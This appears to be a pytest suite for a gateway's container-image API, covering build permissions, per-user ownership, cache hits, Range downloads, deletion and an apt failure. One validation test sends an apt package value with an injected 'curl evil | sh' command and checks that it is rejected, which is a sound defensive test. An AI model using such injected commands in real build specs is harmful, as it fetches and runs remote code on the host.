"""The /images endpoints: roles, ownership, cache hits, Range downloads, and one real failing
build through the gateway's worker (an unknown apt package: apt's own error reaches the user)."""

from __future__ import annotations

import base64
import hashlib
import time
from typing import Any

import pytest
import yaml

from containers.store import ImageStore
from hpcwaas.settings import Settings
from tests.containers.conftest import GREET, HELLO_SPEC, MISSING_APT_SPEC, BuiltImage, seed
from tests.fixtures.gateway import Person, error_of

HELLO_BODY: dict[str, Any] = {
    "spec": yaml.safe_load(HELLO_SPEC),
    "files": {"greet.sh": base64.b64encode(GREET.encode()).decode()},
    "executable": ["greet.sh"],
}


@pytest.fixture
def seeded(settings: Settings, hello_image: BuiltImage) -> BuiltImage:
    """The session's image, placed in this gateway's store: requesting it is a cache hit."""
    seed(ImageStore(settings.effective_images_dir), hello_image)
    return hello_image


def wait_terminal(person: Person, build_id: str, timeout: float = 900) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        build = person.get(f"/images/builds/{build_id}").json()
        if build["terminal"]:
            return dict(build)
        time.sleep(1)
    raise AssertionError(f"build {build_id} did not end within {timeout}s")


def test_builder_status(people: dict[str, Person]) -> None:
    body = people["alice"].get("/images/builder").json()
    assert body["available"] is True and body["version"].startswith("apptainer version")


def test_scientists_cannot_build(people: dict[str, Person]) -> None:
    resp = people["alice"].post("/images/builds", json=HELLO_BODY)
    assert resp.status_code == 403 and error_of(resp)["code"] == "permission_denied"


def test_invalid_spec_is_422_naming_the_field(people: dict[str, Person]) -> None:
    resp = people["dave"].post("/images/builds", json={"spec": {"apt": ["ok", "x; curl evil | sh"]}})
    assert resp.status_code == 422
    err = error_of(resp)
    assert err["code"] == "invalid_input" and "apt.1" in err["message"]
    assert err["details"]["problems"][0]["field"] == "apt.1"
    missing = people["dave"].post("/images/builds", json={"spec": HELLO_BODY["spec"]})
    assert missing.status_code == 422 and "greet.sh is copied into the image but was not sent" in \
        error_of(missing)["message"]


def test_cached_build_then_inspect_download_and_delete(people: dict[str, Person], seeded: BuiltImage) -> None:
    dave, alice, admin = people["dave"], people["alice"], people["admin"]
    began = time.monotonic()
    resp = dave.post("/images/builds", json=HELLO_BODY)
    elapsed = time.monotonic() - began
    assert resp.status_code == 202, resp.text
    build = resp.json()
    assert build["state"] == "succeeded" and build["cached"] and build["image_id"] == seeded.ref.id
    assert elapsed < 2.0
    image_id = build["image_id"]

    assert dave.get(f"/images/builds/{build['id']}").json()["state"] == "succeeded"
    assert alice.get(f"/images/builds/{build['id']}").status_code == 404
    assert "already in the store" in dave.get(f"/images/builds/{build['id']}/logs").text
    assert build["id"] in {b["id"] for b in admin.get("/images/builds", params={"all": "true"}).json()}
    assert alice.get("/images/builds", params={"all": "true"}).status_code == 403

    assert image_id in {i["id"] for i in dave.get("/images").json()}
    assert image_id not in {i["id"] for i in alice.get("/images").json()}
    assert alice.get(f"/images/{image_id}").status_code == 404
    shown = dave.get(f"/images/{image_id}").json()
    data = seeded.ref.path.read_bytes()
    assert shown["size"] == len(data) and shown["digest"] == "sha256:" + hashlib.sha256(data).hexdigest()
    assert shown["labels"]["maintainer"] == "team-a" and shown["definition"].startswith("Bootstrap: debootstrap")

    full = dave.get(f"/images/{image_id}/download")
    assert full.status_code == 200 and full.headers["accept-ranges"] == "bytes" and full.content == data
    part = dave.get(f"/images/{image_id}/download", headers={"Range": "bytes=100-199"})
    assert part.status_code == 206 and part.content == data[100:200]
    assert part.headers["content-range"] == f"bytes 100-199/{len(data)}"
    rest = dave.get(f"/images/{image_id}/download", headers={"Range": f"bytes={len(data) - 10}-"})
    assert rest.status_code == 206 and rest.content == data[-10:]
    assert dave.get(f"/images/{image_id}/download", headers={"Range": f"bytes={len(data)}-"}).status_code == 416
    assert alice.get(f"/images/{image_id}/download").status_code == 404

    assert alice.delete(f"/images/{image_id}").status_code == 404
    assert dave.delete(f"/images/{image_id}").status_code == 204
    assert dave.get(f"/images/{image_id}").status_code == 404
    assert dave.get("/images/not-an-id").status_code == 404


def test_admin_deletes_any_image(people: dict[str, Person], seeded: BuiltImage) -> None:
    build = people["dave"].post("/images/builds", json=HELLO_BODY).json()
    assert build["cached"]
    assert people["admin"].delete(f"/images/{build['image_id']}").status_code == 204


@pytest.mark.slow
def test_unknown_apt_package_fails_with_apts_error(people: dict[str, Person], settings: Settings) -> None:
    if not settings.effective_database_url.startswith("sqlite"):
        pytest.skip("one real failing build per session is enough (it runs on SQLite)")
    dave = people["dave"]
    first = dave.post("/images/builds", json={"spec": MISSING_APT_SPEC})
    assert first.status_code == 202, first.text
    second = dave.post("/images/builds", json={"spec": MISSING_APT_SPEC}).json()
    assert second["leader_id"] == first.json()["id"]  # identical request while in flight: joined
    build = wait_terminal(dave, first.json()["id"])
    assert build["state"] == "failed"
    assert "Unable to locate package hpcwaas-no-such-package" in build["message"]
    joined = dave.get(f"/images/builds/{second['id']}").json()
    assert joined["state"] == "failed" and joined["message"] == build["message"]
    log = dave.get(f"/images/builds/{build['id']}/logs")
    assert "E: Unable to locate package hpcwaas-no-such-package" in log.text
    assert log.headers["x-build-state"] == "failed"
    offset = int(log.headers["x-next-offset"])
    assert dave.get(f"/images/builds/{build['id']}/logs", params={"offset": offset}).text == ""
